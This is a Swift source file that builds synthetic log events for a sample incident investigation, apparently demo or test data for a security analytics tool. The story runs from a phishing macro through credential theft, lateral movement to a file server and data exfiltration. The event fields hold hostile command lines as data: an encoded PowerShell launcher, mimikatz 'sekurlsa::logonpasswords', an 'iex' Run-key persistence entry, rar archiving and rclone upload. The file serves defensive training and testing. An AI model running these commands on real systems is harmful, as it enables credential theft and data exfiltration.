/// An event of the attack that the sample investigation is about: a mail with a macro, PowerShell and mimikatz on
/// one laptop, a stolen service account, a file server, and an upload to an address nobody knows.
struct StoryEvent: Sendable {
    /// Milliseconds after the export's start.
    let offset: Int64
    /// Not in the platform yet when the search was executed first.
    let arrivesLater: Bool
    /// The fields, in the notation of `TemplateCompiler`.
    let text: String

    private init(_ day: Int, _ clock: (Int, Int, Int), arrivesLater: Bool = false, _ text: String) {
        offset = ((Int64(day) * 24 + Int64(clock.0)) * 60 + Int64(clock.1)) * 60_000 + Int64(clock.2) * 1000
        self.arrivesLater = arrivesLater
        self.text = text
    }

    /// In order of time.
    static let all: [StoryEvent] = (entry + beacons + theft + movement + upload + traces).sorted {
        $0.offset < $1.offset
    }

    // MARK: Tuesday: the mail

    private static let entry: [StoryEvent] = [
        StoryEvent(
            1, (8, 41, 12),
            #"""
            event.action = Delivered
            event.category := ["email"]
            event.type := ["info"]
            event.dataset = message_trace
            email.from.address := ["facturation@halden-sso.example"]
            email.to.address := ["élodie.marchand@halden.example"]
            email.subject = Facture impayée n° 2026-0117
            email.attachments := [{"file":{"name":"Facture_Janvier_2026.docm","size":88412}}]
            source.ip = 192.0.2.77
            message =json= {"Organization":"halden.example","MessageId":"<20260113084109.8A1C@halden-sso.example>","Received":"${time:isoSeconds}","SenderAddress":"facturation@halden-sso.example","RecipientAddress":"élodie.marchand@halden.example","Subject":"Facture impayée n° 2026-0117","Status":"Delivered","FromIP":"192.0.2.77","Size":121877}
            """#),
        StoryEvent(
            1, (9, 2, 37),
            sysmonFile(
                #"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#,
                #"C:\Users\élodie.marchand\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1ZD\Facture_Janvier_2026.docm"#
            )),
        StoryEvent(
            1, (9, 3, 2),
            sysmonProcess(
                #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#,
                #""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\élodie.marchand\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1ZD\Facture_Janvier_2026.docm""#,
                #"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#,
                "5d1b1f2a7c0f4a54b4f3b6c1d0a9e87766554433221100ffeeddccbbaa998877")),
        StoryEvent(
            1, (9, 3, 19),
            sysmonProcess(
                powershell,
                #"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#,
                #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#,
                "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f")),
        StoryEvent(
            1, (9, 3, 20),
            #"""
            event.code = 22
            event.provider = Microsoft-Windows-Sysmon
            event.action = Dns query (rule: DnsQuery)
            event.category := ["network"]
            event.dataset = windows.sysmon_operational
            host.name = LAP-PAR-0417
            process.name = powershell.exe
            process.executable = C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
            dns.question.name = cdn.halden-sso.example
            dns.resolved_ip := ["192.0.2.77"]
            message = Dns query:⏎RuleName: -⏎UtcTime: ${time:spaceMillis}⏎QueryName: cdn.halden-sso.example⏎QueryStatus: 0⏎QueryResults: ::ffff:192.0.2.77;⏎Image: C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
            """#),
        StoryEvent(1, (9, 3, 22), proxy("GET", "cdn.halden-sso.example", "/u/load.ps1", 184_220, 612)),
        StoryEvent(1, (9, 4, 48), sysmonRegistry),
    ]

    // MARK: Tuesday and Wednesday: the implant calls home every 20 minutes

    private static let beacons: [StoryEvent] = (0..<36).map { number in
        let minute = 9 * 60 + 20 + number * 20
        return StoryEvent(
            1, (minute / 60, minute % 60, (number * 7) % 60),
            proxy("POST", "cdn.halden-sso.example", "/u/c", 212, 48 + number % 5))
    }

    // MARK: Wednesday: credentials

    private static let theft: [StoryEvent] = [
        StoryEvent(2, (14, 7, 51), sysmonFile(powershell, #"C:\ProgramData\é\m1.exe"#)),
        StoryEvent(
            2, (14, 8, 3),
            sysmonProcess(
                #"C:\ProgramData\é\m1.exe"#, #"m1.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#, powershell,
                mimikatzHash)),
        StoryEvent(
            2, (14, 8, 4),
            #"""
            event.code = 10
            event.provider = Microsoft-Windows-Sysmon
            event.action = Process accessed (rule: ProcessAccess)
            event.category := ["process"]
            event.type := ["access"]
            event.dataset = windows.sysmon_operational
            host.name = LAP-PAR-0417
            process.name = m1.exe
            process.executable = C:\ProgramData\é\m1.exe
            winlog.event_data.TargetImage = C:\Windows\System32\lsass.exe
            winlog.event_data.GrantedAccess = 0x1010
            message = Process accessed:⏎UtcTime: ${time:spaceMillis}⏎SourceImage: C:\ProgramData\é\m1.exe⏎TargetImage: C:\Windows\System32\lsass.exe⏎GrantedAccess: 0x1010
            """#),
        StoryEvent(
            2, (14, 8, 31),
            #"""
            event.kind = alert
            event.category := ["intrusion_detection"]
            event.type := ["info"]
            event.severity := 73
            event.reason = Mimikatz credential theft tool
            host.name = lap-par-0417.corp.halden.example
            user.name = élodie.marchand
            process.executable = C:\ProgramData\é\m1.exe
            process.command_line = m1.exe "privilege::debug" "sekurlsa::logonpasswords" exit
            file.hash.sha256 = 61c0810a23580cf492a6ba4f7654566108331e7a4134c968c2d6a05261b2d8a1
            observer.vendor = Microsoft
            observer.product = Microsoft Defender for Endpoint
            message =json= {"id":"da638405120000000000_1170","severity":"High","status":"New","title":"Mimikatz credential theft tool","computerDnsName":"lap-par-0417.corp.halden.example","relatedUser":{"userName":"élodie.marchand","domainName":"HALDEN"},"evidence":[{"entityType":"Process","fileName":"m1.exe","filePath":"C:\\ProgramData\\é","sha256":"61c0810a23580cf492a6ba4f7654566108331e7a4134c968c2d6a05261b2d8a1"}],"alertCreationTime":"${time:iso}"}
            """#),
    ]

    // MARK: Wednesday night: the file server

    private static let movement: [StoryEvent] = [
        StoryEvent(2, (22, 16, 40), logon("FS-PAR-0009", failed: true)),
        StoryEvent(2, (22, 16, 55), logon("FS-PAR-0009", failed: false)),
        StoryEvent(
            2, (22, 17, 1),
            #"""
            event.code = 7045
            event.provider = Service Control Manager
            event.action = service-installed
            event.category := ["configuration"]
            event.type := ["creation"]
            event.dataset = windows.system
            host.name = fs-par-0009.corp.halden.example
            service.name = PSEXESVC
            winlog.event_data.ImagePath = %SystemRoot%\PSEXESVC.exe
            winlog.event_data.StartType = demand start
            winlog.event_data.AccountName = LocalSystem
            message = A service was installed in the system.⏎⏎Service Name:  PSEXESVC⏎Service File Name:  %SystemRoot%\PSEXESVC.exe⏎Service Start Type:  demand start⏎Service Account:  LocalSystem
            """#),
        StoryEvent(
            2, (22, 24, 9),
            #"""
            event.code = 5140
            event.provider = Microsoft-Windows-Security-Auditing
            event.action = network-share-object-accessed
            event.category := ["network","file"]
            event.type := ["access"]
            event.outcome = success
            event.dataset = windows.security
            host.name = fs-par-0009.corp.halden.example
            user.name = svc-backup-7
            source.ip = 10.20.17.42
            source.port := 50133
            winlog.event_data.ShareName = \\*\compta
            winlog.event_data.AccessMask = 0x12019f
            message = A network share object was accessed.⏎⏎Subject:⏎⇥Account Name:⇥⇥svc-backup-7⏎⇥Account Domain:⇥⇥HALDEN⏎⏎Network Information:⏎⇥Source Address:⇥⇥10.20.17.42⏎⏎Share Information:⏎⇥Share Name:⇥⇥\\*\compta⏎⇥Share Path:⇥⇥\??\D:\Shares\compta
            """#),
        StoryEvent(
            2, (22, 41, 30),
            #"""
            event.code = 4688
            event.provider = Microsoft-Windows-Security-Auditing
            event.action = created-process
            event.category := ["process"]
            event.type := ["start"]
            event.dataset = windows.security
            host.name = fs-par-0009.corp.halden.example
            user.name = svc-backup-7
            user.domain = HALDEN
            process.name = rar.exe
            process.executable = C:\Windows\Temp\rar.exe
            process.command_line = rar.exe a -hpJ4nv1er! -v200m C:\Windows\Temp\upd.rar D:\Shares\compta\Büro\*
            process.parent.name = cmd.exe
            message = A new process has been created.⏎⏎Creator Subject:⏎⇥Account Name:⇥⇥svc-backup-7⏎⏎Process Information:⏎⇥New Process Name:⇥C:\Windows\Temp\rar.exe⏎⇥Process Command Line:⇥rar.exe a -hpJ4nv1er! -v200m C:\Windows\Temp\upd.rar D:\Shares\compta\Büro\*
            """#),
    ]

    // MARK: Thursday before dawn: out

    private static let upload: [StoryEvent] = (0..<9).map { number in
        StoryEvent(
            3, (2, 10 + number * 4, 11 + number),
            #"""
            event.action = allow
            event.category := ["network"]
            event.type := ["connection","allowed"]
            event.outcome = success
            event.dataset = traffic
            source.ip = 10.20.1.9
            source.port := ${int#port:49152-65535}
            source.bytes := ${int#sent:209000000-209999999}
            destination.ip = 203.0.113.66
            destination.port := 8443
            destination.bytes := ${int#got:90000-99999}
            network.transport = tcp
            network.application = ssl
            rule.name = OUT-Web
            observer.name = fw-par-01
            observer.vendor = Palo Alto Networks
            observer.product = PAN-OS
            message = 1,${time:slash},007954000351998,TRAFFIC,end,2561,${time:slash},10.20.1.9,203.0.113.66,0.0.0.0,0.0.0.0,OUT-Web,halden\svc-backup-7,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,Syslog,${time:slash},88123,1,${int#port},8443,0,0,0x400053,tcp,allow,${int#sent},${int#sent},${int#got},150311,${time:slash},231,any
            """#)
    }

    // MARK: Thursday: traces, and what came late

    private static let traces: [StoryEvent] = [
        StoryEvent(
            3, (2, 58, 20),
            #"""
            event.code = 1102
            event.provider = Microsoft-Windows-Eventlog
            event.action = audit-log-cleared
            event.category := ["iam"]
            event.type := ["admin","change"]
            event.outcome = success
            event.dataset = windows.security
            host.name = fs-par-0009.corp.halden.example
            user.name = svc-backup-7
            message = The audit log was cleared.⏎Subject:⏎⇥Account Name:⇥svc-backup-7⏎⇥Domain Name:⇥HALDEN
            """#),
        StoryEvent(
            2, (22, 19, 44), arrivesLater: true,
            sysmonServer(#"C:\Windows\System32\cmd.exe"#, "cmd.exe /c vssadmin list shadows")),
        StoryEvent(
            2, (22, 20, 10), arrivesLater: true,
            sysmonServer(#"C:\Windows\System32\net.exe"#, #"net.exe group "Domain Admins" /domain"#)),
        StoryEvent(
            3, (2, 9, 2), arrivesLater: true,
            sysmonServer(
                #"C:\Windows\Temp\rclone.exe"#,
                #"rclone.exe copy C:\Windows\Temp out: --include upd.part*.rar --config C:\Windows\Temp\é.conf"#)),
    ]
}

// MARK: Texts

extension StoryEvent {
    private static let powershell = #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#
    private static let mimikatzHash = "61c0810a23580cf492a6ba4f7654566108331e7a4134c968c2d6a05261b2d8a1"

    private static func fileName(_ path: String) -> String {
        path.split(separator: "\\").last.map(String.init) ?? path
    }

    private static func sysmonProcess(_ image: String, _ command: String, _ parent: String, _ hash: String) -> String {
        #"""
        event.code = 1
        event.provider = Microsoft-Windows-Sysmon
        event.action = Process Create (rule: ProcessCreate)
        event.category := ["process"]
        event.type := ["start"]
        event.dataset = windows.sysmon_operational
        host.name = LAP-PAR-0417
        user.name = élodie.marchand
        user.domain = HALDEN
        process.pid := ${int#pid:4000-9999}
        process.name = \#(fileName(image))
        process.executable = \#(image)
        process.command_line = \#(command)
        process.hash.sha256 = \#(hash)
        process.parent.name = \#(fileName(parent))
        process.parent.executable = \#(parent)
        related.hash := ["\#(hash)"]
        message = Process Create:⏎RuleName: -⏎UtcTime: ${time:spaceMillis}⏎ProcessId: ${int#pid}⏎Image: \#(image)⏎CommandLine: \#(command)⏎User: HALDEN\élodie.marchand⏎IntegrityLevel: High⏎Hashes: SHA256=\#(hash)⏎ParentImage: \#(parent)
        """#
    }

    private static func sysmonServer(_ image: String, _ command: String) -> String {
        #"""
        event.code = 1
        event.provider = Microsoft-Windows-Sysmon
        event.action = Process Create (rule: ProcessCreate)
        event.category := ["process"]
        event.type := ["start"]
        event.dataset = windows.sysmon_operational
        host.name = FS-PAR-0009
        user.name = svc-backup-7
        user.domain = HALDEN
        process.name = \#(fileName(image))
        process.executable = \#(image)
        process.command_line = \#(command)
        process.parent.name = PSEXESVC.exe
        message = Process Create:⏎UtcTime: ${time:spaceMillis}⏎Image: \#(image)⏎CommandLine: \#(command)⏎User: HALDEN\svc-backup-7⏎ParentImage: C:\Windows\PSEXESVC.exe
        """#
    }

    private static func sysmonFile(_ image: String, _ path: String) -> String {
        #"""
        event.code = 11
        event.provider = Microsoft-Windows-Sysmon
        event.action = File created (rule: FileCreate)
        event.category := ["file"]
        event.type := ["creation"]
        event.dataset = windows.sysmon_operational
        host.name = LAP-PAR-0417
        user.name = élodie.marchand
        process.name = \#(fileName(image))
        process.executable = \#(image)
        file.path = \#(path)
        file.name = \#(fileName(path))
        message = File created:⏎RuleName: -⏎UtcTime: ${time:spaceMillis}⏎Image: \#(image)⏎TargetFilename: \#(path)⏎User: HALDEN\élodie.marchand
        """#
    }

    private static let sysmonRegistry = #"""
        event.code = 13
        event.provider = Microsoft-Windows-Sysmon
        event.action = Registry value set (rule: RegistryEvent)
        event.category := ["configuration","registry"]
        event.type := ["change"]
        event.dataset = windows.sysmon_operational
        host.name = LAP-PAR-0417
        process.executable = C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
        registry.hive = HKU
        registry.path = HKU\S-1-5-21-3623811015-3361044348-30300820-1417\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive Update
        registry.data.strings := ["powershell.exe -w hidden -c \"iex (gc $env:APPDATA\\é.txt -Raw)\""]
        message = Registry value set:⏎EventType: SetValue⏎UtcTime: ${time:spaceMillis}⏎Image: C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe⏎TargetObject: HKU\S-1-5-21-3623811015-3361044348-30300820-1417\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive Update⏎Details: powershell.exe -w hidden -c "iex (gc $env:APPDATA\é.txt -Raw)"
        """#

    private static func proxy(_ method: String, _ domain: String, _ path: String, _ received: Int, _ milliseconds: Int)
        -> String
    {
        #"""
        event.action = TCP_MISS
        event.category := ["web","network"]
        event.type := ["access"]
        event.outcome = success
        event.duration := \#(milliseconds)000000
        source.ip = 10.20.17.42
        user.name = élodie.marchand
        destination.ip = 192.0.2.77
        destination.domain = \#(domain)
        destination.port := 80
        http.request.method = \#(method)
        http.response.status_code := 200
        http.response.bytes := \#(received)
        url.original = http://\#(domain)\#(path)
        url.domain = \#(domain)
        user_agent.original = Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0)
        message = ${time:epoch}.107 \#(milliseconds) 10.20.17.42 TCP_MISS/200 \#(received) \#(method) http://\#(domain)\#(path) élodie.marchand HIER_DIRECT/192.0.2.77 text/plain
        """#
    }

    private static func logon(_ host: String, failed: Bool) -> String {
        #"""
        event.code = \#(failed ? "4625" : "4624")
        event.provider = Microsoft-Windows-Security-Auditing
        event.action = \#(failed ? "logon-failed" : "logged-in")
        event.category := ["authentication"]
        event.type := ["start"]
        event.outcome = \#(failed ? "failure" : "success")
        event.dataset = windows.security
        host.name = \#(host.lowercased()).corp.halden.example
        user.name = svc-backup-7
        user.domain = HALDEN
        source.ip = 10.20.17.42
        source.port := ${int:49152-65535}
        winlog.logon.type = Network
        related.ip := ["10.20.17.42"]
        message = \#(failed ? "An account failed to log on." : "An account was successfully logged on.")⏎⏎Logon Type:⇥⇥⇥3⏎⏎New Logon:⏎⇥Account Name:⇥⇥svc-backup-7⏎⇥Account Domain:⇥⇥HALDEN⏎⏎Network Information:⏎⇥Workstation Name:⇥LAP-PAR-0417⏎⇥Source Network Address:⇥10.20.17.42⏎⏎Detailed Authentication Information:⏎⇥Authentication Package:⇥NTLM
        """#
    }
}
